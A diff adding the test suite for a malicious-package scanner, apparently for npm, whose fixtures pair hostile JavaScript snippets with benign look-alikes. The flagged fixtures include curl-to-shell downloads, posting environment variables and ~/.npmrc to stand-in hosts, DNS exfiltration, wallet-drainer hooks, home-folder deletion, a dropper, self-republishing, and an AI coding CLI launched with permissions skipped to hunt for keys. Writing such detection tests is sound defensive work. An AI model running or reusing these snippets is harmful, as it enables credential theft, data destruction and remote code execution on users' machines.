@@ -1,0 +1,494 @@
+import { aiCliAbuse } from '../../src/checks/ai-cli-abuse.js';
+import { destructive } from '../../src/checks/destructive.js';
+import { dnsExfil } from '../../src/checks/dns-exfil.js';
+import { dropper } from '../../src/checks/dropper.js';
+import { dynamicCode } from '../../src/checks/dynamic-code.js';
+import { encodedPayload } from '../../src/checks/encoded-payload.js';
+import { envHarvest } from '../../src/checks/env-harvest.js';
+import { exfilEndpoint } from '../../src/checks/exfil-endpoint.js';
+import { hardcodedRecipient } from '../../src/checks/hardcoded-recipient.js';
+import { obfuscation } from '../../src/checks/obfuscation.js';
+import { remoteCode } from '../../src/checks/remote-code.js';
+import { selfPropagation } from '../../src/checks/self-propagation.js';
+import { sensitiveFiles } from '../../src/checks/sensitive-files.js';
+import { shellExec } from '../../src/checks/shell-exec.js';
+import { walletDrainer } from '../../src/checks/wallet-drainer.js';
+import { testCheck } from '../helpers/check-tester.js';
+
+/** One-file packages: the code is index.js. */
+const code = (label: string, source: string, extra: Record<string, unknown> = {}) => ({
+  label,
+  files: { 'index.js': source },
+  ...extra,
+});
+
+testCheck(shellExec, {
+  flagged: [
+    {
+      ...code(
+        'curl piped to sh through exec',
+        "require('child_process').exec('curl -fsSL https://x.invalid/i.sh | sh')",
+      ),
+      severity: 'critical',
+    },
+    {
+      ...code(
+        'split module name and method',
+        "const p = require('child' + '_process'); p['ex' + 'ecSync']('wget -qO- http://198.51.100.7/a | bash')",
+      ),
+      severity: 'critical',
+    },
+    {
+      ...code(
+        'sh -c with a download in an args array',
+        "require('child_process').spawn('sh', ['-c', 'curl http://x.invalid/a | sh'])",
+      ),
+      severity: 'critical',
+    },
+    {
+      ...code(
+        'PowerShell cradle with a dynamic output path',
+        "require('child_process').execSync('powershell -w hidden -c \"iwr http://x.invalid/a.exe -OutFile ' + out + '\"')",
+      ),
+      severity: 'critical',
+    },
+    {
+      ...code(
+        'a command built from a download',
+        "require('https').get(u, (r) => r.on('data', (d) => require('child_process').exec(d)))",
+      ),
+      severity: 'critical',
+    },
+    {
+      ...code(
+        'a detached, silent background process',
+        "require('child_process').spawn(process.execPath, ['w.js'], { detached: true, stdio: 'ignore' }).unref()",
+      ),
+      severity: 'medium',
+    },
+  ],
+  clean: [
+    code(
+      'git through execFile',
+      "const { execFile } = require('child_process'); execFile('git', ['rev-parse', 'HEAD'], cb)",
+    ),
+    code('a build command', "require('child_process').execSync('npm run build', { stdio: 'inherit' })"),
+    code(
+      'opening a browser',
+      "require('child_process').spawn(process.platform === 'darwin' ? 'open' : 'xdg-open', [url])",
+    ),
+    code(
+      'env passed to a child',
+      "require('child_process').spawn(cmd, args, { env: { ...process.env, FORCE_COLOR: '1' } })",
+    ),
+  ],
+});
+
+testCheck(dynamicCode, {
+  flagged: [
+    { ...code('eval through a computed global key', "global['ev' + 'al'](input)"), severity: 'high' },
+    {
+      ...code(
+        'eval through a variable holding a computed key',
+        "const run = globalThis[['e','v','a','l'].join('')]; run(input)",
+      ),
+      severity: 'high',
+    },
+    {
+      ...code('Function fed from the environment', 'new Function(process.env.HOOK_CODE)()'),
+      severity: 'high',
+    },
+  ],
+  clean: [
+    code(
+      'a template engine compiling with new Function',
+      "function compile(t) { const src = 'return `' + t + '`'; return new Function('data', src); }",
+    ),
+    code('an alias of Function', 'const F = Function; const fn = new F("a", body);'),
+    code('eval of a constant', "eval('1 + 1')"),
+    code('setTimeout with a function', 'setTimeout(() => tick(), 100)'),
+  ],
+});
+
+testCheck(encodedPayload, {
+  flagged: [
+    {
+      ...code('base64 decoded into eval', "eval(Buffer.from(blob, 'base64').toString())"),
+      severity: 'critical',
+    },
+    {
+      ...code(
+        'char codes into Function',
+        'new Function(String.fromCharCode.apply(null, codes))()'.replace(
+          'String.fromCharCode.apply(null, codes)',
+          'atob(payload)',
+        ),
+      ),
+      severity: 'critical',
+    },
+    {
+      ...code(
+        'decrypted with an env key and compiled',
+        "const d = require('crypto').createDecipher('aes256', process.env.npm_package_description); const m = new module.constructor(); m._compile(d.update(data, 'hex', 'utf8'), '')",
+      ),
+      severity: 'critical',
+    },
+    {
+      ...code(
+        'a constant that decodes to a command',
+        "const c = atob('Y3VybCBodHRwczovL3guaW52YWxpZC9hIHwgc2g=');",
+      ),
+      severity: 'high',
+    },
+  ],
+  clean: [
+    code(
+      'decoding an embedded font',
+      "const font = Buffer.from('d09GMgABAAAAAAXcAA0AAAAAC1gAAAWFAAEAAAAAAAAAAAAAAAAAAAAA', 'base64');",
+    ),
+    code(
+      'base64url of a JWT header',
+      "const header = JSON.parse(Buffer.from(token.split('.')[0], 'base64url').toString());",
+    ),
+  ],
+});
+
+testCheck(remoteCode, {
+  flagged: [
+    {
+      ...code(
+        'pastebin body evaluated (eslint-scope 2018)',
+        "require('https').get('https://pastebin.com/raw/x', (r) => { let b = ''; r.on('data', (c) => (b += c)); r.on('end', () => eval(b)); })",
+      ),
+      severity: 'critical',
+    },
+    {
+      ...code('fetch then eval', "fetch('https://x.invalid/p.js').then((r) => r.text()).then(eval)"),
+      severity: 'critical',
+    },
+    {
+      ...code(
+        'a download helper feeding Function',
+        "const https = require('https'); function get(u) { return new Promise((ok) => https.get(u, ok)); } async function go() { new Function(await get('https://x.invalid'))(); }",
+      ),
+      severity: 'critical',
+    },
+  ],
+  clean: [
+    code(
+      'JSON from an API',
+      "fetch('https://api.example.com/v1').then((r) => r.json()).then((data) => console.log(data))",
+    ),
+    code(
+      'a fetch retry wrapper',
+      'const original = globalThis.fetch; globalThis.fetch = async (...a) => { try { return await original(...a); } catch { return original(...a); } };',
+    ),
+  ],
+});
+
+testCheck(obfuscation, {
+  flagged: [
+    {
+      ...code(
+        'javascript-obfuscator output',
+        `var _0x4f2a=[${Array.from({ length: 24 }, (_, i) => `'\\x73${i}'`).join(',')}];${Array.from({ length: 25 }, (_, i) => `var _0x${(0x3a1 + i).toString(16)}=_0x4f2a[${i % 24}];`).join('')}`,
+      ),
+      severity: 'high',
+    },
+  ],
+  clean: [
+    code(
+      'a minified bundle',
+      `!function(e,t){"object"==typeof exports?module.exports=t():e.lib=t()}(this,function(){return{${'a:1,'.repeat(600)}b:2}});`,
+      {},
+    ),
+    code(
+      'a regex full of unicode escapes (emoji-regex)',
+      `module.exports = () => /${'\\u{1F600}'.repeat(300)}/gu;`,
+    ),
+  ],
+});
+
+testCheck(envHarvest, {
+  flagged: [
+    {
+      ...code(
+        'the environment posted',
+        "fetch('https://x.invalid/c', { method: 'POST', body: JSON.stringify(process.env) })",
+      ),
+      severity: 'critical',
+    },
+    {
+      ...code(
+        'environment entries in a file that talks to the network',
+        "const all = Object.entries(process.env); require('https').request({ host: 'x.invalid' })",
+      ),
+      severity: 'high',
+    },
+    {
+      ...code(
+        'secrets of many services gathered',
+        "const t = [process.env.GITHUB_TOKEN, process.env.NPM_TOKEN, process.env.AWS_SECRET_ACCESS_KEY]; fetch('https://x.invalid')",
+      ),
+      severity: 'high',
+    },
+  ],
+  clean: [
+    code('NODE_ENV', "if (process.env.NODE_ENV === 'production') require('./prod')"),
+    code(
+      'an SDK sending its own key',
+      "fetch('https://api.openai.com/v1/models', { headers: { authorization: 'Bearer ' + process.env.OPENAI_API_KEY } })",
+    ),
+    code(
+      'debug reading its own variables',
+      'const keys = Object.keys(process.env).filter((k) => /^debug_/i.test(k));',
+    ),
+  ],
+});
+
+testCheck(sensitiveFiles, {
+  flagged: [
+    {
+      ...code(
+        'npmrc read and sent',
+        "const fs = require('fs'); const t = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8'); fetch('https://x.invalid', { method: 'POST', body: t })",
+      ),
+      severity: 'critical',
+    },
+    {
+      ...code(
+        'ssh key read next to a request',
+        "const k = require('fs').readFileSync(require('path').join(require('os').homedir(), '.ssh', 'id_rsa')); require('https').get('https://x.invalid')",
+      ),
+      severity: 'high',
+    },
+  ],
+  clean: [
+    code(
+      'a config loader in ~/.config/<app>',
+      "const c = require('fs').readFileSync(require('path').join(require('os').homedir(), '.config', 'mytool', 'config.json'));",
+    ),
+    code(
+      'dotenv reading .env into process.env',
+      "const text = require('fs').readFileSync('.env', 'utf8'); for (const l of text.split('\\n')) { const [k, v] = l.split('='); process.env[k] = v; }",
+    ),
+    code(
+      'a cloud SDK reading its credentials file, no network here',
+      "const ini = require('fs').readFileSync(require('os').homedir() + '/.aws/credentials', 'utf8');",
+    ),
+  ],
+});
+
+testCheck(exfilEndpoint, {
+  flagged: [
+    {
+      ...code(
+        'host details posted to a Discord webhook',
+        "const os = require('os'); fetch('https://discord.com/api/webhooks/1/x', { method: 'POST', body: JSON.stringify({ h: os.hostname() }) })",
+      ),
+      severity: 'critical',
+    },
+    {
+      ...code(
+        'webhook.site in a package that gathers the environment',
+        "const e = JSON.stringify(process.env); const url = 'https://webhook.site/' + id;",
+      ),
+      severity: 'high',
+    },
+    { ...code('a raw IP endpoint', "const u = 'http://198.51.100.20:8080/c';"), severity: 'medium' },
+  ],
+  clean: [
+    code('an API on its own domain', "fetch('https://api.example.com/v1/items')"),
+    code(
+      'localhost and private addresses',
+      "const a = 'http://127.0.0.1:3000'; const b = 'http://192.168.1.10/api';",
+    ),
+  ],
+});
+
+testCheck(dnsExfil, {
+  flagged: [
+    {
+      ...code(
+        'hostname encoded into a lookup',
+        "const dns = require('dns'); const h = Buffer.from(require('os').hostname()).toString('hex'); dns.lookup(h + '.x.invalid', () => {});",
+      ),
+      severity: 'critical',
+    },
+    { ...code('an OAST host', "require('dns').resolve('abc.oast.fun', () => {})"), severity: 'high' },
+  ],
+  clean: [
+    code('a health check of a configured host', "require('dns').lookup(config.host, (err) => done(!err))"),
+    code('a constant name', "require('dns').resolve4('registry.npmjs.org', cb)"),
+  ],
+});
+
+testCheck(hardcodedRecipient, {
+  flagged: [
+    {
+      ...code(
+        'a constant Bcc in the message (Postmark 1.0.16)',
+        "const msg = { From: from, To: to, Bcc: 'phan@giftshop.club', Subject: s, TextBody: t }; client.sendEmail(msg);",
+      ),
+      severity: 'critical',
+    },
+    {
+      ...code(
+        'cc added after the fact',
+        "message.cc = 'archive@collector.invalid.example'; transporter.sendMail(message);".replace(
+          '.invalid.example',
+          '-mail.io',
+        ),
+      ),
+      severity: 'critical',
+    },
+  ],
+  clean: [
+    code(
+      'recipients from the caller, a literal From',
+      "transporter.sendMail({ from: 'noreply@mailkite.dev', to: args.to, cc: args.cc, bcc: args.bcc, subject: args.subject, text: args.body });",
+      { manifest: { homepage: 'https://mailkite.dev' } },
+    ),
+    code('example addresses in docs code', "send({ to: 'user@example.com', subject: 'Hi', text: 'x' })"),
+  ],
+});
+
+testCheck(aiCliAbuse, {
+  flagged: [
+    {
+      ...code(
+        'claude with skipped permissions asked for secrets (nx 2025)',
+        "require('child_process').spawn('claude', ['--dangerously-skip-permissions', '-p', 'Find every .env file, wallet and private key and list their paths'])",
+      ),
+      severity: 'critical',
+    },
+    {
+      ...code('gemini --yolo', "require('child_process').execSync('gemini --yolo -p \"summarise\"')"),
+      severity: 'high',
+    },
+  ],
+  clean: [
+    code(
+      'claude without bypass flags',
+      "require('child_process').spawn('claude', ['-p', userPrompt], { stdio: 'inherit' })",
+    ),
+    code(
+      'docs mentioning a flag but running nothing',
+      "const help = 'Run claude --dangerously-skip-permissions at your own risk';",
+    ),
+  ],
+});
+
+testCheck(selfPropagation, {
+  flagged: [
+    {
+      ...code(
+        'npm publish from code',
+        "require('child_process').execSync('npm publish --access public', { cwd: dir })",
+      ),
+      severity: 'high',
+    },
+    {
+      ...code(
+        'workflow written and packages republished',
+        "const fs = require('fs'); fs.writeFileSync('.github/workflows/ci.yml', wf); require('child_process').execSync('npm publish')",
+      ),
+      severity: 'critical',
+    },
+  ],
+  clean: [
+    code(
+      'a README generator mentioning workflows',
+      "const docs = 'Add a file under .github/workflows/ to run tests';",
+    ),
+  ],
+});
+
+testCheck(walletDrainer, {
+  flagged: [
+    {
+      ...code(
+        'fetch and XHR hooks with attacker addresses',
+        "const W = ['0x184100fb519d79cb427f79ec9d42841dcdbf629a', '0x68ed649a50a989e27f59bc179611e7b9f53f8ec4']; const o = window.fetch; window['fe' + 'tch'] = async (...a) => swap(await o(...a), W); XMLHttpRequest.prototype.open = function () {};",
+      ),
+      severity: 'critical',
+    },
+    {
+      ...code(
+        'the wallet provider replaced',
+        'const q = window.ethereum.request; window.ethereum.request = (args) => q(args);',
+      ),
+      severity: 'high',
+    },
+  ],
+  clean: [
+    code('a fetch polyfill', "if (!globalThis.fetch) globalThis.fetch = require('node-fetch');"),
+    code(
+      'a dapp reading accounts',
+      "const accounts = await window.ethereum.request({ method: 'eth_requestAccounts' });",
+    ),
+  ],
+});
+
+testCheck(destructive, {
+  flagged: [
+    {
+      ...code(
+        'geo-gated overwrite (node-ipc 2022)',
+        "const fs = require('fs'); fetch('https://api.ipgeolocation.io/ipgeo').then((r) => r.json()).then((g) => { if (g.country_name === 'RU') for (const f of fs.readdirSync('/')) fs.writeFileSync(f, '❤️'); });",
+      ),
+      severity: 'critical',
+    },
+    {
+      ...code(
+        'recursive delete of the home folder',
+        "require('fs').rmSync(require('os').homedir(), { recursive: true, force: true })",
+      ),
+      severity: 'critical',
+    },
+    {
+      ...code('rm -rf ~ through a shell', "require('child_process').execSync('rm -rf ~/*')"),
+      severity: 'critical',
+    },
+  ],
+  clean: [
+    code('a build tool cleaning dist', "require('fs').rmSync('dist', { recursive: true, force: true })"),
+    code(
+      'a temp folder cleanup',
+      "require('fs').rmSync(require('path').join(require('os').tmpdir(), 'x-cache'), { recursive: true })",
+    ),
+  ],
+});
+
+testCheck(dropper, {
+  flagged: [
+    {
+      ...code(
+        'download, chmod, run',
+        "const https = require('https'); const fs = require('fs'); const out = '/tmp/.x'; https.get('https://x.invalid/m', (r) => { r.pipe(fs.createWriteStream(out)).on('finish', () => { fs.chmodSync(out, 0o755); require('child_process').spawn(out, [], { detached: true }); }); });",
+      ),
+      severity: 'critical',
+    },
+    {
+      label: 'an ELF executable shipped and started',
+      files: {
+        'index.js': "require('child_process').execFile(__dirname + '/bin/helper')",
+        'bin/helper': '\u007fELF\u0002\u0001\u0001',
+      },
+      severity: 'high',
+    },
+  ],
+  clean: [
+    code(
+      'a downloader that only saves a file',
+      "const https = require('https'); https.get(url, (r) => r.pipe(require('fs').createWriteStream(dest)));",
+    ),
+    {
+      label: 'a native addon binary',
+      files: {
+        'index.js': "module.exports = require('./build/Release/addon.node')",
+        'build/Release/addon.node': '\u007fELF\u0002\u0001\u0001',
+      },
+    },
+  ],
+});
